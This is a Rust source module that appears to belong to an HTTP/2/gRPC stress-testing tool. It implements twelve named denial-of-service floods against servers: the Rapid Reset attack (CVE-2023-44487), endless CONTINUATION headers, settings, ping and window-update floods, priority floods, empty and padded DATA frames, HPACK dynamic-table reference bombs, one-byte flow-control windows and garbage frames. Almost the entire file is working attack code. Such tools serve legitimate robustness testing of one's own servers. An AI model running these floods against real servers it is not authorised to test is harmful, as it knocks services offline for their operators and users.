//! HTTP/2 frames that a server must process although they are not calls.

use std::sync::atomic::AtomicUsize;

use futures::future::join_all;

use super::{
    Attack,
    raw::{
        CANCEL, CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, INITIAL_WINDOW_SIZE, PADDED, PING, PRIORITY,
        RST_STREAM, Rpc, SETTINGS, call_headers, field, flood, frame, indexed_field, setting, stream_id, window_update,
    },
    target::Target,
};

/// These attacks by name.
pub const FRAMES: [(&str, Attack); 12] = [
    ("rapid resets", |target, count| Box::pin(reset_rapidly(target, count))),
    ("resets of complete calls", |target, count| Box::pin(reset_complete_calls(target, count))),
    ("bursts of resets", |target, count| Box::pin(reset_in_bursts(target, count))),
    ("headers without an end", |target, count| Box::pin(continue_headers(target, count))),
    ("settings", |target, count| Box::pin(send_settings(target, count))),
    ("pings", |target, count| Box::pin(send_pings(target, count))),
    ("window updates", |target, count| Box::pin(send_window_updates(target, count))),
    ("priorities", |target, count| Box::pin(send_priorities(target, count))),
    ("empty data", |target, count| Box::pin(send_empty_data(target, count))),
    ("compressed headers", |target, count| Box::pin(send_compressed_headers(target, count))),
    ("windows of a byte", |target, count| Box::pin(enlarge_windows_by_a_byte(target, count))),
    ("garbage after the preface", |target, count| Box::pin(send_garbage(target, count))),
];

/// The frames that are sent at a time if they are cheap, and if they begin calls.
const CHEAP_FRAMES: usize = 500;
const CALLS: usize = if cfg!(debug_assertions) { 1 } else { 4 };

/// The calls of a burst, the connections on which bursts are sent, and the time between two bursts, in pauses of the
/// attacker. Debug builds are too slow for more.
const BURST: usize = 16;
const BURST_CONNECTIONS: usize = if cfg!(debug_assertions) { 1 } else { 4 };
const BURST_PERIOD: usize = 20;

/// References to the dynamic table in the headers of a call. Debug builds are slow to decode them.
const REFERENCES: usize = if cfg!(debug_assertions) { 2000 } else { 10_000 };

/// The calls that a connection may have in progress.
const MAX_CALLS: usize = 128;

/// An empty message with its prefix.
const EMPTY_MESSAGE: [u8; 5] = [0; 5];

/// Opens streams and resets each at once, before its request is complete (CVE-2023-44487).
async fn reset_rapidly(target: &Target, count: &AtomicUsize) {
    let frames = |rpc, number| {
        let streams = (0..10 * CALLS).map(|call| stream_id(10 * CALLS * number + call));
        let headers = call_headers(rpc, "x");
        let reset = |stream| [frame(HEADERS, END_HEADERS, stream, &headers), frame(RST_STREAM, 0, stream, &CANCEL)];
        streams.flat_map(reset).flatten().collect()
    };
    flood(target, count, |_| Vec::new(), frames).await;
}

/// Makes complete calls with an access token, and resets each at once.
async fn reset_complete_calls(target: &Target, count: &AtomicUsize) {
    let token = target.token();
    let frames = |rpc, number| {
        let streams = (0..CALLS).map(|call| stream_id(CALLS * number + call));
        let headers = call_headers(rpc, &token);
        let reset = |stream| {
            [
                frame(HEADERS, END_HEADERS, stream, &headers),
                frame(DATA, END_STREAM, stream, &EMPTY_MESSAGE),
                frame(RST_STREAM, 0, stream, &CANCEL),
            ]
        };
        streams.flat_map(reset).flatten().collect()
    };
    flood(target, count, |_| Vec::new(), frames).await;
}

/// Makes complete calls in bursts on several connections, and resets all of a burst at once when some have been
/// forwarded to a service.
async fn reset_in_bursts(target: &Target, count: &AtomicUsize) {
    let token = target.token();
    let frames = |rpc, number: usize| {
        let streams = (0..BURST).map(|call| stream_id(BURST * (number / BURST_PERIOD) + call));
        if number % BURST_PERIOD > 1 {
            return Vec::new();
        }
        if number % BURST_PERIOD == 1 {
            return streams.flat_map(|stream| frame(RST_STREAM, 0, stream, &CANCEL)).collect();
        }
        let headers = call_headers(rpc, &token);
        let call =
            |stream| [frame(HEADERS, END_HEADERS, stream, &headers), frame(DATA, END_STREAM, stream, &EMPTY_MESSAGE)];
        streams.flat_map(call).flatten().collect()
    };
    join_all((0..BURST_CONNECTIONS).map(|_| flood(target, count, |_| Vec::new(), frames))).await;
}

/// Begins the headers of a call and continues them without an end: with long headers, with short ones, or with none.
async fn continue_headers(target: &Target, count: &AtomicUsize) {
    let long = frame(CONTINUATION, 0, 1, &field("x-long", &"x".repeat(8000)));
    let short = frame(CONTINUATION, 0, 1, &field("x", "y")).repeat(CHEAP_FRAMES);
    let empty = frame(CONTINUATION, 0, 1, &[]).repeat(CHEAP_FRAMES);
    let first = |rpc| frame(HEADERS, 0, 1, &call_headers(rpc, "x"));
    tokio::join!(
        flood(target, count, first, |_, _| long.clone()),
        flood(target, count, first, |_, _| short.clone()),
        flood(target, count, first, |_, _| empty.clone()),
    );
}

/// Changes settings all the time, so that the server has to acknowledge them.
async fn send_settings(target: &Target, count: &AtomicUsize) {
    let frames = |_, _| {
        [setting(INITIAL_WINDOW_SIZE, 1), setting(INITIAL_WINDOW_SIZE, 65_535)].concat().repeat(CHEAP_FRAMES / 2)
    };
    flood(target, count, open_calls, frames).await;
}

/// Returns frames that open as many calls as a connection may have.
fn open_calls(rpc: Rpc) -> Vec<u8> {
    let headers = call_headers(rpc, "x");
    (0..MAX_CALLS).flat_map(|call| frame(HEADERS, END_HEADERS, stream_id(call), &headers)).collect()
}

/// Sends pings and reads no response.
async fn send_pings(target: &Target, count: &AtomicUsize) {
    let pings = frame(PING, 0, 0, &[0; 8]).repeat(CHEAP_FRAMES);
    flood(target, count, |_| Vec::new(), |_, _| pings.clone()).await;
}

/// Enlarges windows by one byte, by zero, and beyond the maximum.
async fn send_window_updates(target: &Target, count: &AtomicUsize) {
    let one = [window_update(0, 1), window_update(1, 1)].concat().repeat(CHEAP_FRAMES / 2);
    let first = |rpc| frame(HEADERS, END_HEADERS, 1, &call_headers(rpc, "x"));
    let invalid = |rpc, number: usize| {
        let stream = stream_id(number + 1);
        let increment = [0, u32::MAX / 2][number % 2];
        [frame(HEADERS, END_HEADERS, stream, &call_headers(rpc, "x")), window_update(stream, increment)].concat()
    };
    tokio::join!(
        flood(target, count, first, |_, _| one.clone()),
        flood(target, count, first, invalid),
        flood(target, count, first, |_, _| window_update(0, u32::MAX / 2)),
    );
}

/// Sets the priorities of many streams that were never opened, and that depend on each other.
async fn send_priorities(target: &Target, count: &AtomicUsize) {
    let frames = |_, number| {
        let streams = (0..CHEAP_FRAMES).map(|index| stream_id(number * CHEAP_FRAMES + index));
        let priority = |stream: u32| frame(PRIORITY, 0, stream, &[&(stream + 2).to_be_bytes()[..], &[255]].concat());
        streams.flat_map(priority).collect()
    };
    flood(target, count, |_| Vec::new(), frames).await;
}

/// Sends the body of a call as frames that are empty, or contain only padding.
async fn send_empty_data(target: &Target, count: &AtomicUsize) {
    let first = |rpc| frame(HEADERS, END_HEADERS, 1, &call_headers(rpc, "x"));
    let empty = frame(DATA, 0, 1, &[]).repeat(CHEAP_FRAMES);
    let padding = frame(DATA, PADDED, 1, &[&[255][..], &[0; 255]].concat()).repeat(CHEAP_FRAMES / 10);
    tokio::join!(
        flood(target, count, first, |_, _| empty.clone()),
        flood(target, count, first, |_, _| padding.clone()),
    );
}

/// Sends headers that are small only because they refer to a large header of the dynamic table, and changes the size of
/// the table all the time (RFC 7541, section 6.3).
async fn send_compressed_headers(target: &Target, count: &AtomicUsize) {
    // An index with the first bit set; the first entry of the dynamic table has the index 62.
    let references = vec![0b1011_1110; REFERENCES];
    let bomb = |rpc, number: usize| {
        let headers =
            [indexed_field("x-large", &"x".repeat(3000)), call_headers(rpc, "x"), references.clone()].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number), &headers)
    };
    let resize = |rpc, number: usize| {
        let sizes = [0x20, 0x3f, 0xe1, 0x1f].repeat(REFERENCES / 4);
        let headers = [sizes, call_headers(rpc, "x")].concat();
        frame(HEADERS, END_HEADERS | END_STREAM, stream_id(number), &headers)
    };
    tokio::join!(flood(target, count, |_| Vec::new(), bomb), flood(target, count, |_| Vec::new(), resize));
}

/// Requests large responses with a window of one byte, and then enlarges the windows of all streams by one byte at a
/// time.
async fn enlarge_windows_by_a_byte(target: &Target, count: &AtomicUsize) {
    let token = target.token();
    let first = |rpc| {
        let headers = call_headers(rpc, &token);
        let call =
            |stream| [frame(HEADERS, END_HEADERS, stream, &headers), frame(DATA, END_STREAM, stream, &EMPTY_MESSAGE)];
        let calls = (0..MAX_CALLS / 8).map(stream_id).flat_map(call);
        [setting(INITIAL_WINDOW_SIZE, 1)].into_iter().chain(calls).flatten().collect()
    };
    let enlarge = |_, number: usize| setting(INITIAL_WINDOW_SIZE, u32::try_from(number + 2).expect("a small window"));
    flood(target, count, first, enlarge).await;
}

/// Connects with a valid preface and sends garbage: unknown types of frames, lengths beyond the maximum, and random
/// bytes.
async fn send_garbage(target: &Target, count: &AtomicUsize) {
    let unknown = (0x10..=0xff).flat_map(|kind| frame(kind, 0xff, 1, &[kind; 100])).collect::<Vec<_>>();
    let oversized = [vec![0xff; 9], vec![0; 16_000]].concat();
    tokio::join!(
        flood(target, count, |_| Vec::new(), |_, _| unknown.clone()),
        flood(target, count, |_| Vec::new(), |_, _| oversized.clone()),
        flood(target, count, |_| Vec::new(), |_, _| (0..16_000).map(|_| fastrand::u8(..)).collect()),
        flood(target, count, |_| frame(SETTINGS, 0, 1, &[0; 5]), |_, _| vec![0; 9]),
    );
}
